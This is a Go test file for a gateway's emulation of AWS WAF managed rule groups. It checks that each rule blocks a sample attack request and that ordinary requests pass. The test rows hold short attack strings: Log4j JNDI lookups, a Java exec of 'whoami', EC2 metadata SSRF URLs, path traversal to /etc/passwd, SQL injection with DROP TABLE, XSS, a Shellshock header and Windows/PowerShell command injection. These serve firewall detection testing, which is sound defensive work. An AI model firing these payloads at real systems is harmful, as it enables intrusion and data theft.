package firewall

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"portico/local/gateway/api"
	"portico/local/gateway/exchange"
)

// managed is a rule that refers to a managed rule group by the last part of its name.
func managed(name string) api.FirewallRule {
	return api.FirewallRule{
		Name: name, OverrideAction: "None",
		Statement: api.Statement{ManagedRuleGroup: &api.ManagedRuleGroupStatement{
			Vendor: "AWS", Name: "AWSManagedRules" + name,
		}},
	}
}

// with is a request with one thing of its own.
func with(change func(*exchange.Request)) *exchange.Request {
	r := request("/dev/orders")
	change(r)
	return r
}

func argumentOf(value string) *exchange.Request { return request("/dev/orders?q=" + value) }

// managedRows have an attack for each rule, the documented example where there is one.
func managedRows() []struct {
	group, rule, label string
	request            *exchange.Request
} {
	const (
		core, bad, sql  = "CommonRuleSet", "KnownBadInputsRuleSet", "SQLiRuleSet"
		linux, unix     = "LinuxRuleSet", "UnixRuleSet"
		windows, php    = "WindowsRuleSet", "PHPRuleSet"
		coreLabel       = "core-rule-set:"
		badLabel        = "known-bad-inputs:"
		sqlLabel        = "sql-database:"
		linuxLabel      = "linux-os:"
		metadata        = "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"
		javaExec        = `(java.lang.Runtime).getRuntime().exec("whoami")`
		jndi            = "${jndi:ldap://example.com/}"
		remote          = "http://198.51.100.1/shell"
		traversal       = "../../etc/x"
		extended, shell = "1;DROP TABLE orders", "echo $HOME"
	)
	cookieOf := func(value string) *exchange.Request { return request("/dev", "Cookie: s="+value) }
	return []struct {
		group, rule, label string
		request            *exchange.Request
	}{
		{core, "NoUserAgent_HEADER", coreLabel + "NoUserAgent_Header", with(func(r *exchange.Request) {
			r.Header.Del("User-Agent")
		})},
		{core, "UserAgent_BadBots_HEADER", coreLabel + "BadBots_Header", with(func(r *exchange.Request) {
			r.Header.Set("User-Agent", "Nessus")
		})},
		{
			core, "SizeRestrictions_QUERYSTRING", coreLabel + "SizeRestrictions_QueryString",
			argumentOf(strings.Repeat("a", 2_048)),
		},
		{
			core, "SizeRestrictions_Cookie_HEADER", coreLabel + "SizeRestrictions_Cookie_Header",
			cookieOf(strings.Repeat("a", 10_240)),
		},
		{
			core, "SizeRestrictions_BODY", coreLabel + "SizeRestrictions_Body",
			posted(strings.Repeat("a", 8_193)),
		},
		{
			core, "SizeRestrictions_URIPATH", coreLabel + "SizeRestrictions_URIPath",
			request("/" + strings.Repeat("a", 1_024)),
		},
		{core, "EC2MetaDataSSRF_BODY", coreLabel + "EC2MetaDataSSRF_Body", posted(metadata)},
		{core, "EC2MetaDataSSRF_COOKIE", coreLabel + "EC2MetaDataSSRF_Cookie", cookieOf(metadata)},
		{core, "EC2MetaDataSSRF_URIPATH", coreLabel + "EC2MetaDataSSRF_URIPath", request("/" + metadata)},
		{
			core, "EC2MetaDataSSRF_QUERYARGUMENTS", coreLabel + "EC2MetaDataSSRF_QueryArguments",
			argumentOf(metadata),
		},
		{
			core, "GenericLFI_QUERYARGUMENTS", coreLabel + "GenericLFI_QueryArguments",
			argumentOf("..%252F..%252Fx"),
		},
		{core, "GenericLFI_URIPATH", coreLabel + "GenericLFI_URIPath", request("/a/../../x")},
		{core, "GenericLFI_BODY", coreLabel + "GenericLFI_Body", posted(traversal)},
		{
			core, "RestrictedExtensions_URIPATH", coreLabel + "RestrictedExtensions_URIPath",
			request("/dev/app.LOG"),
		},
		{
			core, "RestrictedExtensions_QUERYARGUMENTS", coreLabel + "RestrictedExtensions_QueryArguments",
			argumentOf("web.ini"),
		},
		{core, "GenericRFI_QUERYARGUMENTS", coreLabel + "GenericRFI_QueryArguments", argumentOf(remote)},
		{core, "GenericRFI_BODY", coreLabel + "GenericRFI_Body", posted(remote)},
		{core, "GenericRFI_URIPATH", coreLabel + "GenericRFI_URIPath", request("/" + remote)},
		{core, "CrossSiteScripting_COOKIE", coreLabel + "CrossSiteScripting_Cookie", cookieOf(script)},
		{
			core, "CrossSiteScripting_QUERYARGUMENTS", coreLabel + "CrossSiteScripting_QueryArguments",
			argumentOf("%3Cscript%3Ealert(%22hello%22)%3C/script%3E"),
		},
		{core, "CrossSiteScripting_BODY", coreLabel + "CrossSiteScripting_Body", posted(script)},
		{
			core, "CrossSiteScripting_URIPATH", coreLabel + "CrossSiteScripting_URIPath",
			request("/" + script),
		},
		{
			"AdminProtectionRuleSet", "AdminProtection_URIPATH",
			"admin-protection:AdminProtection_URIPath", request("/dev/sqlManager/"),
		},
		{
			bad, "JavaDeserializationRCE_HEADER", badLabel + "JavaDeserializationRCE_Header",
			request("/", "X: "+javaExec),
		},
		{bad, "JavaDeserializationRCE_BODY", badLabel + "JavaDeserializationRCE_Body", posted(javaExec)},
		{
			bad, "JavaDeserializationRCE_URIPATH", badLabel + "JavaDeserializationRCE_URIPath",
			request("/" + javaExec),
		},
		{
			bad, "JavaDeserializationRCE_QUERYSTRING", badLabel + "JavaDeserializationRCE_QueryString",
			argumentOf("class.module.classLoader.x=1"),
		},
		{
			bad, "Host_localhost_HEADER", badLabel + "Host_Localhost_Header",
			with(func(r *exchange.Request) { r.Header.Set("Host", "localhost") }),
		},
		{bad, "PROPFIND_METHOD", badLabel + "Propfind_Method", with(func(r *exchange.Request) {
			r.Method = "PROPFIND"
		})},
		{
			bad, "ExploitablePaths_URIPATH", badLabel + "ExploitablePaths_URIPath",
			request("/dev/WEB-INF/web.xml"),
		},
		{bad, "Log4JRCE_HEADER", badLabel + "Log4JRCE_Header", request("/", "X: "+jndi)},
		{bad, "Log4JRCE_QUERYSTRING", badLabel + "Log4JRCE_QueryString", argumentOf(jndi)},
		{bad, "Log4JRCE_BODY", badLabel + "Log4JRCE_Body", posted("${${lower:j}ndi:ldap://x}")},
		{bad, "Log4JRCE_URIPATH", badLabel + "Log4JRCE_URIPath", request("/" + jndi)},
		{bad, "ReactJSRCE_BODY", badLabel + "ReactJSRCE_Body", posted(`{"then":"$1:__proto__:then"}`)},
		{sql, "SQLi_QUERYARGUMENTS", sqlLabel + "SQLi_QueryArguments", argumentOf("'+or+1=1")},
		{
			sql, "SQLiExtendedPatterns_QUERYARGUMENTS", sqlLabel + "SQLiExtendedPatterns_QueryArguments",
			argumentOf("1;DROP/**/TABLE%20orders"),
		},
		{sql, "SQLi_BODY", sqlLabel + "SQLi_Body", posted("' or 1=1")},
		{sql, "SQLiExtendedPatterns_BODY", sqlLabel + "SQLiExtendedPatterns_Body", posted(extended)},
		{sql, "SQLi_COOKIE", sqlLabel + "SQLi_Cookie", cookieOf("' or 1=1")},
		{sql, "SQLi_URIPATH", sqlLabel + "SQLi_URIPath", request("/dev/'%20or%201=1")},
		{linux, "LFI_URIPATH", linuxLabel + "LFI_URIPath", request("/proc/version")},
		{linux, "LFI_QUERYSTRING", linuxLabel + "LFI_QueryString", argumentOf("/proc/version")},
		{linux, "LFI_HEADER", linuxLabel + "LFI_Header", request("/", "X: /etc/passwd")},
		{
			unix, "UNIXShellCommandsVariables_QUERYARGUMENTS",
			"posix-os:UNIXShellCommandsVariables_QueryArguments", argumentOf("echo%20$PATH"),
		},
		{
			unix, "UNIXShellCommandsVariables_QUERYSTRING",
			"posix-os:UNIXShellCommandsVariables_QueryString", argumentOf("echo%20$HOME"),
		},
		{
			unix, "UNIXShellCommandsVariables_BODY", "posix-os:UNIXShellCommandsVariables_Body",
			posted(shell),
		},
		{
			unix, "UNIXShellCommandsVariables_HEADER", "posix-os:UNIXShellCommandsVariables_Header",
			request("/", "X: () { :; }; "+shell),
		},
		{
			windows, "WindowsShellCommands_COOKIE", "windows-os:WindowsShellCommands_Cookie",
			cookieOf("a||nslookup x"),
		},
		{
			windows, "WindowsShellCommands_QUERYARGUMENTS", "windows-os:WindowsShellCommands_QueryArguments",
			argumentOf(";cmd"),
		},
		{
			windows, "WindowsShellCommands_BODY", "windows-os:WindowsShellCommands_Body",
			posted("||nslookup x"),
		},
		{
			windows, "PowerShellCommands_COOKIE", "windows-os:PowerShellCommands_Cookie",
			cookieOf("Invoke-Expression x"),
		},
		{
			windows, "PowerShellCommands_QUERYARGUMENTS", "windows-os:PowerShellCommands_QueryArguments",
			argumentOf("Invoke-Expression"),
		},
		{
			windows, "PowerShellCommands_BODY", "windows-os:PowerShellCommands_Body",
			posted("Invoke-Expression x"),
		},
		{
			php, "PHPHighRiskMethodsVariables_HEADER", "php-app:PHPHighRiskMethodsVariables_Header",
			request("/", "X: fsockopen"),
		},
		{
			php, "PHPHighRiskMethodsVariables_QUERYSTRING",
			"php-app:PHPHighRiskMethodsVariables_QueryString", argumentOf("$_GET"),
		},
		{
			php, "PHPHighRiskMethodsVariables_BODY", "php-app:PHPHighRiskMethodsVariables_Body",
			posted("$_GET"),
		},
		{
			"WordPressRuleSet", "WordPressExploitableCommands_QUERYSTRING",
			"wordpress-app:WordPressExploitableCommands_QUERYSTRING", argumentOf("do-reset-wordpress"),
		},
		{
			"WordPressRuleSet", "WordPressExploitablePaths_URIPATH",
			"wordpress-app:WordPressExploitablePaths_URIPATH", request("/xmlrpc.php"),
		},
	}
}

func TestEveryManagedRuleFindsItsAttack(t *testing.T) {
	for _, r := range managedRows() {
		t.Run(r.rule, func(t *testing.T) {
			def := definition(managed(r.group))
			group := def.Rules[0].Statement.ManagedRuleGroup
			// The other rules only count, so that each is seen alone.
			for _, known := range managedGroups() {
				for _, other := range known.rules {
					if other.name != r.rule {
						group.Excluded = append(group.Excluded, other.name)
					}
				}
			}
			got := compiled(t, def).Inspect(r.request)
			if got.Action != Block || got.GroupRule != r.rule {
				t.Errorf("got %s by %q, want BLOCK by %q", got.Action, got.GroupRule, r.rule)
			}
			if label := "awswaf:managed:aws:" + r.label; !slices.Contains(got.Labels, label) {
				t.Errorf("got labels %v, want %s among them", got.Labels, label)
			}
		})
	}
}

func TestEveryManagedRuleHasARow(t *testing.T) {
	rows := managedRows()
	for _, group := range managedGroups() {
		for _, rule := range group.rules {
			found := rule.list
			for _, r := range rows {
				found = found || r.rule == rule.name && "AWSManagedRules"+r.group == group.name
			}
			if !found {
				t.Errorf("%s %s has no row that it finds", group.name, rule.name)
			}
		}
	}
}

// everything refers to all managed groups.
func everything() []api.FirewallRule {
	var rules []api.FirewallRule
	for i, name := range ManagedGroups() {
		rule := managed(strings.TrimPrefix(name, "AWSManagedRules"))
		rule.Priority = 100 + i
		rules = append(rules, rule)
	}
	return rules
}

func TestManagedRulesLetOrdinaryRequestsPass(t *testing.T) {
	acl := compiled(t, definition(everything()...))
	for _, r := range []*exchange.Request{
		request("/dev/v1/orders/0b6f7c0e-6a39-4d07-9f3e-0d5a5a6f5a11"),
		request("/dev/v1/orders?limit=20&after=2026-11-01T12:00:00Z&sort=-createdAt"),
		request("/dev/search?q=O%27Brien+%26+sons;+select+a+chair+from+the+catalogue"),
		request("/dev/search?q=union+of+workers+or+not&redirect=https://example.com/a/b"),
		request("/dev/files/report.2026.pdf?name=my%20log%20book"),
		request("/", "Cookie: session=eyJhbGciOiJIUzI1NiJ9.e30.abc-_; theme=dark; lang=en"),
		request("/", "Host: localhost:3001", "Referer: http://localhost:5173/orders?page=2"),
		posted(`{"customer":"c-1","items":[{"sku":"A-1","quantity":2}],"note":"call me; it's urgent"}`),
		posted(`{"html":"a < b && c > d","price":"$20","path":"../images/logo.png"}`),
		posted(`{"text":"The cat & the dog: id, or name? Drop it at the table. 50% off -- today"}`),
		posted("name=Ren%C3%A9&comment=5+%3E+3+and+2+%3C+4"),
	} {
		got := acl.Inspect(r)
		if got.Action != Allow || len(got.Labels) > 0 {
			t.Errorf("%s?%s %s: got %s, labels %v", r.RawPath, r.RawQuery, r.Body, got.Action, got.Labels)
		}
	}
}

func TestAddressListsAreEmptyUnlessGiven(t *testing.T) {
	def := definition(managed("AmazonIpReputationList"))
	if got := compiled(t, def).Inspect(from("203.0.113.1")); got.Action != Allow {
		t.Errorf("got %s without lists, want ALLOW", got.Action)
	}
	deps := dependencies(start())
	deps.Addresses = map[string][]netip.Prefix{
		"AWSManagedIPReputationList": {prefix("203.0.113.0/24")},
		"AWSManagedIPDDoSList":       {prefix("198.51.100.0/24")},
	}
	acl, err := New(def, deps)
	if err != nil {
		t.Fatal(err)
	}
	if got := acl.Inspect(from("203.0.113.1")); got.GroupRule != "AWSManagedIPReputationList" {
		t.Errorf("got %+v, want a block by AWSManagedIPReputationList", got)
	}
	if got := acl.Inspect(from("198.51.100.1")); got.Action != Allow || len(got.Counted) != 1 {
		t.Errorf("got %+v, want a count by AWSManagedIPDDoSList", got)
	}
}

func TestManagedGroupsAreNarrowedAndOverridden(t *testing.T) {
	def := definition(managed("CommonRuleSet"))
	group := def.Rules[0].Statement.ManagedRuleGroup
	scope := bytes1(uri, "STARTS_WITH", "/dev/in")
	group.ScopeDown = &scope
	group.Overrides = map[string]api.RuleAction{
		"GenericLFI_URIPATH": {Type: "Count"}, "NoSuchRule": {Type: "Count"},
	}
	acl := compiled(t, def)
	if got := acl.Inspect(request("/dev/out/../../x")); len(got.Labels) > 0 {
		t.Errorf("got %+v outside the scope, want nothing", got)
	}
	got := acl.Inspect(request("/dev/in/../../x"))
	if got.Action != Allow || len(got.Counted) != 1 ||
		got.Counted[0].String() != "CommonRuleSet/GenericLFI_URIPATH" ||
		got.Counted[0].Overrides != Block {
		t.Errorf("got %+v, want a count by GenericLFI_URIPATH in the place of a block", got)
	}
	if acl.Capacity() != 702 { // AWS's 700 and the scope-down statement's 2
		t.Errorf("got %d WCU, want 702", acl.Capacity())
	}
}
